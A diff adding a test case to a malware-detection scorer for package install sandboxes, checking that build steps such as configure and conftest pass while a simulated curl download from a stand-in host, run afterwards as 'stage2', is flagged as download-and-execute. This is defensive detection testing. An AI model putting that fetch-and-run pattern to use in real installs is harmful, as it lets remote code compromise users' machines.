@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import type { SandboxReport } from '@airlock/core';
 import { scoreReport } from '../src/index.js';
 import { connect, proc, reportWith, script, T0, write } from './helpers.js';
 
@@ -58,6 +59,24 @@ describe('download-execute', () => {
     // The same shell in another process, or for another file, is a shell of its own.
     const other = proc(['/bin/sh', '/tmp/other.sh'], { pid: 213, time: T0 + 5, path: '/bin/sh' });
     expect(rules(scoreReport(reportWith({ processes: [node, tried, other] })))).toEqual(['lifecycle-shell']);
+  });
+
+  it('leaves out what a build runs: ./configure unpacked to /tmp, its conftest, but not a curl download run under make', () => {
+    const node = proc(['node', 'lib/install.js'], { pid: 240, time: T0 + 1 });
+    const configure = proc(['./configure', '--disable-shared'], { pid: 241, time: T0 + 5, path: '/tmp/src/configure', ppid: 240 });
+    const conftest = proc(['./conftest'], { pid: 242, time: T0 + 6, path: '/tmp/src/conftest', ppid: 241 });
+    const tree = { install: { nodes: [
+      { pid: 240, parent: null, startTime: T0 + 1, execs: [{ argv: node.argv }] },
+      { pid: 241, parent: 0, startTime: T0 + 5, execs: [{ argv: configure.argv }] },
+      { pid: 242, parent: 1, startTime: T0 + 6, execs: [{ argv: conftest.argv }] },
+    ] }, import: null } as unknown as SandboxReport['processTree'];
+    const writes = [write('/tmp/src/configure', { pid: 240, time: T0 + 3 }), write('/tmp/src/conftest', { pid: 241, time: T0 + 5.5 })];
+    expect(rules(scoreReport(reportWith({ processes: [node, configure, conftest], processTree: tree, fileWrites: writes, connections: [connect(240, 443)] })))).toEqual([]);
+    // curl's download is a download wherever it runs.
+    const curl = proc(['curl', '-o', '/tmp/src/stage2', 'http://x.test/s'], { pid: 243, time: T0 + 7, ppid: 241 });
+    const stage2 = proc(['/tmp/src/stage2'], { pid: 244, time: T0 + 8, path: '/tmp/src/stage2', ppid: 241 });
+    const v = scoreReport(reportWith({ processes: [node, configure, curl, stage2], processTree: tree, fileWrites: [write('/tmp/src/stage2', { pid: 243, time: T0 + 7.5 })] }));
+    expect(rules(v)).toContain('download-execute');
   });
 
   it('weighs a dropped script outside the package folder that is run without a download', () => {
